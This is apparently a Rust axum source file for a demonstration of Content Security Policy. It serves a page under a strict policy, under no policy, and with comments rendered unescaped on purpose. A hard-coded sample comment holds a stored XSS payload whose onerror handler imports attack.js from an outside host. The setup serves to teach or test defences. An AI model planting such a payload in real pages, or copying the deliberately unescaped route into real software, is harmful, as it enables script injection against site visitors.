use axum::http::header::{CONTENT_SECURITY_POLICY, CONTENT_TYPE, HeaderName, REFERRER_POLICY};
use axum::response::Html;
use axum::routing::{MethodRouter, get};
use axum::{Json, Router};
use serde_json::json;

/// Lets the page run its own scripts and nobody else's, and send to nobody else.
const POLICY: &str = "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'self'; \
     connect-src 'self'; img-src data:; form-action 'self'; base-uri 'none'; frame-ancestors 'none'";
/// Is what a page without a policy comes to.
const NO_POLICY: &str = "frame-ancestors 'none'";

/// Serves the page, safely and with two mistakes, and its scripts.
pub(crate) fn router<S: Clone + Send + Sync + 'static>(stranger: &str) -> Router<S> {
    // What somebody wrote under an article. The program knows this one comment only, or everybody could write scripts.
    let comment = format!("Great shop! <img src=\"data:,\" alt=\"\" onerror=\"import('{stranger}/attack.js')\">");
    let comments = Json(json!([comment]));
    Router::new()
        .route("/", page("as text", POLICY))
        .route("/dangerously-unescaped", page("as HTML", NO_POLICY))
        .route("/dangerously-unescaped-with-policy", page("as HTML", POLICY))
        .route("/comments", get(move || async move { comments.clone() }))
        .route("/page.js", file("text/javascript", include_str!("page.js")))
        .route("/worker.js", file("text/javascript", include_str!("worker.js")))
        .route("/page.css", file("text/css", include_str!("page.css")))
}

fn page<S: Clone + Send + Sync + 'static>(comments: &'static str, policy: &'static str) -> MethodRouter<S> {
    let html = include_str!("page.html").replace("{comments}", comments);
    get(move || async move { ([(CONTENT_SECURITY_POLICY, policy), (REFERRER_POLICY, "no-referrer")], Html(html)) })
}

/// Serves a file of this folder. Scripts of workers have a policy of their own.
pub(crate) fn file<S: Clone + Send + Sync + 'static>(kind: &'static str, content: &'static str) -> MethodRouter<S> {
    const NO_SNIFFING: HeaderName = HeaderName::from_static("x-content-type-options");
    let headers = [(CONTENT_TYPE, kind), (CONTENT_SECURITY_POLICY, POLICY), (NO_SNIFFING, "nosniff")];
    get(move || async move { (headers, content) })
}
